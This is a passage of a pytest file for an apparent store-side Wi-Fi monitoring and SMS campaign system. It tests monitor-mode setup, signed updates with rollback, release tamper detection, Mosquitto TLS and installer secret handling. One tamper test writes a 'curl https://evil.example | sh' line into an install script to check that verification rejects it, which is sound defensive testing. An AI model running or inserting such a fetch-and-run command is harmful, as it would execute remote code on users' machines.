        time.sleep(0.5)
        assert not hups.exists(), "reloaded without a change"
        (auth / "passby.acl").write_text("user bridge\n")
        deadline = time.monotonic() + 5
        while not hups.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert hups.exists() and hups.read_text().count("hup") == 1
    finally:
        proc.terminate()
        proc.wait(10)


# monitor-setup.sh -----------------------------------------------------------------------------
@pytest.fixture()
def stub_tools(tmp_path: Path) -> tuple[Path, Path]:
    bin_dir, log = tmp_path / "bin", tmp_path / "calls.log"
    bin_dir.mkdir()
    for tool in ("ip", "iw", "rfkill"):
        (bin_dir / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> "{log}"\n')
        (bin_dir / tool).chmod(0o755)
    return bin_dir, log


def _monitor(bin_dir: Path, **env: str):
    base = {"PATH": f"{bin_dir}:/usr/bin:/bin", "PASSBY_IFACE": "lo"}
    return sh(EDGE / "monitor-setup.sh", env={**base, **env})


def test_monitor_setup_runs_the_commands_in_order(stub_tools: tuple[Path, Path]) -> None:
    bin_dir, log = stub_tools
    res = _monitor(bin_dir, PASSBY_CHANNEL="6", PASSBY_COUNTRY="RU")
    assert res.returncode == 0, res.stderr
    assert log.read_text().splitlines() == [
        "rfkill unblock wifi",
        "iw reg set RU",
        "ip link set dev lo down",
        "iw dev lo set type monitor",
        "ip link set dev lo up",
        "iw dev lo set channel 6",
    ]
    assert "lo in monitor mode on channel 6" in res.stdout


def test_monitor_setup_takes_the_channel_from_edge_toml(
    stub_tools: tuple[Path, Path], tmp_path: Path
) -> None:
    bin_dir, log = stub_tools
    cfg = tmp_path / "edge.toml"
    cfg.write_text('store_id = "main-st"\nchannel = 11\n[mqtt]\nport = 8883\n')
    res = _monitor(bin_dir, PASSBY_EDGE_CONFIG=str(cfg))
    assert res.returncode == 0, res.stderr
    assert log.read_text().splitlines()[-1] == "iw dev lo set channel 11"


def test_monitor_setup_says_what_is_missing(stub_tools: tuple[Path, Path]) -> None:
    bin_dir, log = stub_tools
    res = _monitor(bin_dir, PASSBY_IFACE="wlan-nope")
    assert res.returncode == 1 and "plug in the USB Wi-Fi adapter" in res.stdout
    assert not log.exists()
    res = _monitor(bin_dir, PASSBY_CHANNEL="6a")
    assert res.returncode == 2 and "not a number" in res.stdout


# signed updates -------------------------------------------------------------------------------
@pytest.fixture()
def keys(tmp_path: Path) -> tuple[Path, str]:
    key = tmp_path / "release-signing.key"
    return key, upd.keygen(key)


def test_install_upgrade_health_rollback_and_downgrade(tmp_path: Path, keys) -> None:
    """Real venvs and pip, offline; systemctl is a stub that reports the service's health."""
    key, pub = keys
    prefix = tmp_path / "opt"
    (prefix / "releases").mkdir(parents=True)
    health = tmp_path / "health"
    systemctl = tmp_path / "systemctl"
    systemctl.write_text(
        f'#!/bin/sh\necho "$*" >> {tmp_path}/systemctl.log\n'
        f'[ "$1" = is-active ] && cat {health}\nexit 0\n'
    )
    systemctl.chmod(0o755)

    # The first install makes a real venv (ensurepip, ~7 s); later ones use a stand-in python
    # whose venvs borrow this interpreter's pip through a .pth file, to keep the test quick.
    pip_dir = tmp_path / "pip-only"
    pip_dir.mkdir()
    import pip

    (pip_dir / "pip").symlink_to(Path(pip.__file__).parent)
    site = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
    quick = tmp_path / "quick-python"
    quick.write_text(
        f'#!/bin/sh\n[ "$1 $2" = "-m venv" ] || exec {sys.executable} "$@"\n'
        f'{sys.executable} -m venv --without-pip "$3" && echo {pip_dir} > "$3/{site}/_pip.pth"\n'
    )
    quick.chmod(0o755)

    built: dict[str, Path] = {}  # one release file per version, as a server publishes it

    def install(version: str, **kw):  # type: ignore[no-untyped-def]
        rel = kw.pop("rel", {})
        if version not in built:
            built[version] = release(tmp_path, key, version, **rel)
        return upd.install(
            str(built[version]),
            pub,
            prefix,
            python=sys.executable if version == "1.0.0" else str(quick),
            systemctl=str(systemctl),
            health_s=5,
            log=lambda _m: None,
            **kw,
        )

    def current() -> str:
        return os.readlink(prefix / "current")

    assert install("1.0.0") == "1.0.0" and current() == "releases/1.0.0"
    agent = prefix / "current/venv/bin/edge-agent"
    assert sh(agent, "version").stdout.strip() == "1.0.0"
    assert json.loads((prefix / "current/release.json").read_text())["version"] == "1.0.0"
    assert install("1.0.0") == "1.0.0"  # already there: nothing to do

    health.write_text("active\n")
    assert install("1.1.0", restart="passby-agent.service") == "1.1.0"
    assert current() == "releases/1.1.0"
    assert "restart passby-agent.service" in (tmp_path / "systemctl.log").read_text()

    assert upd.update_status(prefix)["result"] == "ok"
    health.write_text("failed\n")
    with pytest.raises(upd.ReleaseError, match="rolled back to 1.1.0"):
        install("1.2.0", restart="passby-agent.service")
    assert current() == "releases/1.1.0"
    # The failure is reported (the agent sends it in its stats) and readable by the agent.
    status = upd.update_status(prefix)
    assert (status["result"], status["version"], status["current"]) == ("failed", "1.2.0", "1.1.0")
    assert "rolled back to 1.1.0" in status["error"]
    assert stat.S_IMODE((prefix / "update-status.json").stat().st_mode) == 0o644
    # The same release next night: verified, then skipped, even though the box is healthy now.
    health.write_text("active\n")
    restarts = (tmp_path / "systemctl.log").read_text().count("restart")
    assert install("1.2.0", restart="passby-agent.service") == "1.1.0"
    assert current() == "releases/1.1.0"
    assert (tmp_path / "systemctl.log").read_text().count("restart") == restarts
    assert upd.update_status(prefix)["result"] == "failed"  # still reported
    # Asked explicitly it is tried again (and fails again with the box unhealthy).
    health.write_text("failed\n")
    with pytest.raises(upd.ReleaseError, match="rolled back"):
        install("1.2.0", restart="passby-agent.service", retry_failed=True)
    # A newer release is installed, and the report is cleared.
    health.write_text("active\n")
    assert install("1.2.1", restart="passby-agent.service") == "1.2.1"
    assert upd.update_status(prefix)["result"] == "ok"
    assert upd.update_status(prefix)["current"] == "1.2.1"
    health.write_text("failed\n")
    with pytest.raises(upd.ReleaseError, match="rolled back to 1.2.1"):
        install("1.2.5", restart="passby-agent.service")
    assert current() == "releases/1.2.1"

    with pytest.raises(upd.ReleaseError, match="refusing to downgrade"):
        install("0.9.0")
    with pytest.raises(upd.ReleaseError, match="upgrade the bridge first"):
        install("2.0.0", rel={"protocol": 2})
    with pytest.raises(upd.ReleaseError, match="smoke test"):
        install("1.3.0", rel={"says": "1.0.0"})
    assert current() == "releases/1.2.1"
    assert sorted(p.name for p in (prefix / "releases").iterdir()) == ["1.1.0", "1.2.1"]

    assert upd.rollback(prefix) == "1.1.0" and current() == "releases/1.1.0"


# scripts/release.sh ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def built_release(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    """scripts/release.sh for real (wheel build, signing), without the box's dependency wheels
    (no PyPI here): (out dir, key file, public key hex)."""
    tmp = tmp_path_factory.mktemp("release")
    key = tmp / "release-signing.key"
    pub = upd.keygen(key)
    res = sh(ROOT / "scripts/release.sh", "--key", key, "--out", tmp / "dist", "--no-deps",
             "--update-url", "https://updates.example.com/passby-edge-latest.tar", timeout=300)  # fmt: skip
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    return tmp / "dist", key, pub


def _version() -> str:
    return re.search(r'^version = "(.*)"', (ROOT / "pyproject.toml").read_text(), re.M).group(1)  # type: ignore[union-attr]


def test_release_bundle_verifies_with_the_updaters_code(
    built_release: tuple[Path, Path, str], tmp_path: Path
) -> None:
    dist, _key, pub = built_release
    v = _version()
    assert sorted(p.name for p in dist.iterdir()) == sorted(
        [f"passby-{v}-py3-none-any.whl", f"passby-edge-{v}.tar", f"passby-{v}.tar.gz"]
    )
    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
        tar.extractall(tmp_path, filter="data")
    bundle = tmp_path / f"passby-{v}"
    manifest = upd.verify_bundle(bundle, pub)
    assert manifest["version"] == v and manifest["protocol"] == PROTOCOL_VERSION
    assert manifest["update_url"] == "https://updates.example.com/passby-edge-latest.tar"
    assert (bundle / "release-signing.pub").read_text().strip() == pub
    for rel in ("deploy/edge/install.sh", "deploy/cloud/install.sh", "deploy/monitoring/passby-alerts.yml",
                "hardware/README.md", "README.md", f"passby-{v}-py3-none-any.whl"):  # fmt: skip
        assert rel in manifest["files"], rel
    # The box release inside is the updater's own format, and the same as the one next to it.
    assert upd.verify(bundle / f"passby-edge-{v}.tar", pub).version == v
    assert (bundle / f"passby-edge-{v}.tar").read_bytes() == (
        dist / f"passby-edge-{v}.tar"
    ).read_bytes()
    # The wheel is complete (console CSS and JavaScript; the lead's test_wheel_install runs it).
    with zipfile.ZipFile(bundle / f"passby-{v}-py3-none-any.whl") as zf:
        names = set(zf.namelist())
    assert {
        "cloud_bridge/web/console/static/console.css",
        "cloud_bridge/web/console/static/campaign.js",
    } <= names
    # The updater's command line says the same.
    res = sh(sys.executable, EDGE / "passby_update.py", "verify-bundle", bundle, "--pubkey", pub)
    assert res.returncode == 0 and "OK, passby" in res.stdout, res.stderr


@pytest.mark.parametrize("change", ["edit", "add", "remove", "resign", "link"])
def test_tampered_bundles_are_refused(
    built_release: tuple[Path, Path, str], tmp_path: Path, change: str
) -> None:
    dist, _key, pub = built_release
    v = _version()
    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
        tar.extractall(tmp_path, filter="data")
    bundle = tmp_path / f"passby-{v}"
    script = bundle / "deploy/edge/install.sh"
    if change == "edit":
        script.write_text(script.read_text() + "curl https://evil.example | sh\n")
        needle = "does not match its signed SHA-256"
    elif change == "add":
        (bundle / "deploy/edge/extra.sh").write_text("#!/bin/sh\n")
        needle = "extra ['deploy/edge/extra.sh']"
    elif change == "remove":
        (bundle / "hardware/README.md").unlink()
        needle = "missing ['hardware/README.md']"
    elif change == "resign":  # a valid signature, by another key
        other = tmp_path / "other.key"
        upd.keygen(other)
        upd.sign_bundle(bundle, other, v, PROTOCOL_VERSION)
        needle = "bad signature"
    else:
        script.unlink()
        script.symlink_to("/bin/true")
        needle = "symbolic link"
    with pytest.raises(upd.ReleaseError) as err:
        upd.verify_bundle(bundle, pub)
    assert needle in str(err.value)


# TLS: certificates a real Mosquitto serves --------------------------------------------------
def test_tls_setup_makes_a_ca_and_broker_cert(tmp_path: Path) -> None:
    openssl = need("openssl", "openssl")
    out = tmp_path / "certs"
    res = sh(
        CLOUD / "tls-setup.sh", "--name", "mqtt.example.com", "--ip", "192.0.2.7", "--out", out
    )
    assert res.returncode == 0, res.stderr
    for name, mode in (
        ("ca.crt", 0o644),
        ("ca.key", 0o600),
        ("broker.crt", 0o644),
        ("broker.key", 0o600),
    ):
        assert stat.S_IMODE((out / name).stat().st_mode) == mode, name
    assert sh(openssl, "verify", "-CAfile", out / "ca.crt", out / "broker.crt").returncode == 0
    text = sh(openssl, "x509", "-in", out / "broker.crt", "-noout", "-text").stdout
    for san in (
        "DNS:mqtt.example.com",
        "DNS:localhost",
        "IP Address:127.0.0.1",
        "IP Address:192.0.2.7",
    ):
        assert san in text
    assert "TLS Web Server Authentication" in text and "CA:FALSE" in text
    ca_before = (out / "ca.crt").read_bytes()
    cert_before = (out / "broker.crt").read_bytes()
    assert sh(CLOUD / "tls-setup.sh", "--name", "mqtt.example.com", "--out", out).returncode == 0
    assert (out / "broker.crt").read_bytes() == cert_before  # kept without --renew
    assert (
        sh(CLOUD / "tls-setup.sh", "--name", "mqtt.example.com", "--out", out, "--renew").returncode
        == 0
    )
    assert (out / "ca.crt").read_bytes() == ca_before  # the CA is never replaced
    assert (out / "broker.crt").read_bytes() != cert_before


@pytest.mark.integration
def test_mosquitto_serves_tls_with_the_repo_config_and_our_certs(tmp_path: Path) -> None:
    """deploy/mosquitto's config as the cloud installer installs it, with tls-setup.sh's certs:
    the bridge account connects over TLS verifying the host name; a wrong CA is refused."""
    import paho.mqtt.client as mqtt

    from cloud_bridge.dev.mosquitto import find_mosquitto, free_port

    binary = find_mosquitto()
    mosquitto_passwd = need("mosquitto_passwd", "mosquitto")
    certs = tmp_path / "certs"
    assert sh(CLOUD / "tls-setup.sh", "--name", "mqtt.example.com", "--out", certs).returncode == 0
    auth = tmp_path / "auth"
    auth.mkdir()
    assert (
        sh(mosquitto_passwd, "-c", "-b", auth / "passby.passwd", "bridge", "s3cret").returncode == 0
    )
    (auth / "passby.acl").write_text(
        "user bridge\ntopic read passby/v1/#\ntopic write passby/v1/+/+/cmd/#\n"
    )
    port = free_port()
    conf = (ROOT / "deploy/mosquitto/passby.conf.example").read_text()
    conf = re.sub(r"^password_file .*", f"password_file {auth}/passby.passwd", conf, flags=re.M)
    conf = re.sub(r"^acl_file .*", f"acl_file {auth}/passby.acl", conf, flags=re.M)
    conf = conf.replace("/etc/mosquitto/certs", str(certs))
    conf = re.sub(r"^listener 8883$", f"listener {port} 127.0.0.1", conf, flags=re.M)
    assert f"listener {port}" in conf
    main = tmp_path / "mosquitto.conf"
    main.write_text(
        f"persistence false\nlog_dest file {tmp_path}/mosquitto.log\n"
        + ("user root\n" if os.geteuid() == 0 else "")
        + conf
    )
    proc = subprocess.Popen(
        [binary, "-c", str(main)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", port)) == 0:
                    break
            assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
            time.sleep(0.05)

        def attempt(ca: Path, password: str) -> object:
            client = mqtt.Client(
                mqtt.CallbackAPIVersion.VERSION2, client_id="bridge-test", protocol=mqtt.MQTTv5
            )
            client.tls_set(ca_certs=str(ca), cert_reqs=ssl.CERT_REQUIRED)
            client.username_pw_set("bridge", password)
            done = threading.Event()
            result: list[object] = []
            client.on_connect = lambda c, u, f, rc, p: (result.append(rc), done.set())
            try:
                client.connect("localhost", port, keepalive=10)
            except (ssl.SSLError, OSError) as exc:
                return exc
            client.loop_start()
            done.wait(10)
            client.loop_stop()
            client.disconnect()
            return result[0] if result else "no CONNACK"

        rc = attempt(certs / "ca.crt", "s3cret")
        assert getattr(rc, "is_failure", True) is False, rc
        rc = attempt(certs / "ca.crt", "wrong")
        assert getattr(rc, "is_failure", False) is True, rc
        other = tmp_path / "other"
        assert sh(CLOUD / "tls-setup.sh", "--name", "x.example", "--out", other).returncode == 0
        assert isinstance(attempt(other / "ca.crt", "s3cret"), ssl.SSLError)
    finally:
        proc.terminate()
        proc.wait(10)


# the cloud installer and the SMS provider ------------------------------------------------------
def test_cloud_install_takes_the_sms_provider(tmp_path: Path) -> None:
    """A new bridge.toml names its provider: without --provider the installer refuses before
    doing anything; with one it writes [provider] and the secret's file (never the secret
    itself into bridge.toml or the installer's output), and the config validates."""
    from cloud_bridge.config import BridgeSettings, load_settings

    root = tmp_path / "root"
    res = sh(CLOUD / "install.sh", "--destdir", root, "--domain", "mqtt.example.com")
    assert res.returncode != 0 and "--provider is required" in res.stderr, res.stderr
    assert "==> [1/" not in res.stdout and not (root / "etc/passby").exists()
    token = tmp_path / "twilio.token"
    token.write_text("tok-5f1e0c2b9a7d\n")
    sid = "AC" + "0123456789abcdef" * 2
    bad = sh(CLOUD / "install.sh", "--destdir", root, "--domain", "mqtt.example.com",
             "--provider", "twilio", "--provider-account", "nope", "--provider-secret-file", token)  # fmt: skip
    assert bad.returncode != 0 and "not a Twilio Account SID" in bad.stderr
    res = sh(CLOUD / "install.sh", "--destdir", root, "--domain", "mqtt.example.com",
             "--provider", "twilio", "--provider-account", sid, "--provider-secret-file", token)  # fmt: skip
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    assert "tok-5f1e0c2b9a7d" not in res.stdout + res.stderr
    conf = root / "etc/passby/bridge.toml"
    assert "tok-5f1e0c2b9a7d" not in conf.read_text()
    secret = root / "etc/passby/provider.secret"
    assert secret.read_text() == token.read_text()
    assert stat.S_IMODE(secret.stat().st_mode) == 0o640
    s = load_settings(BridgeSettings, conf)
    assert "kind" in s.provider.model_fields_set and s.provider.kind == "twilio"
    assert s.provider.twilio.account_sid == sid
    assert s.provider.twilio.auth_token_file == Path("/etc/passby/provider.secret")
    # A dry run says where the secret goes, never what it is.
    dry = sh(CLOUD / "install.sh", "--dry-run", "--domain", "mqtt.example.com",
             "--provider", "smsc", "--provider-account", "shop", "--provider-secret-file", token)  # fmt: skip
    assert dry.returncode == 0 and "provider.secret" in dry.stdout
    assert "tok-5f1e0c2b9a7d" not in dry.stdout + dry.stderr
    assert 'kind = "smsc"' in dry.stdout and 'login = "shop"' in dry.stdout


def test_kept_bridge_toml_without_a_provider_is_warned_about(tmp_path: Path) -> None:
    root = tmp_path / "root"
    conf = root / "etc/passby/bridge.toml"
    conf.parent.mkdir(parents=True)
    conf.write_text((CLOUD / "bridge.toml.example").read_text())
    res = sh(CLOUD / "install.sh", "--destdir", root, "--domain", "mqtt.example.com")
    assert res.returncode == 0, res.stderr[-3000:]
    assert "has no [provider] kind" in res.stderr
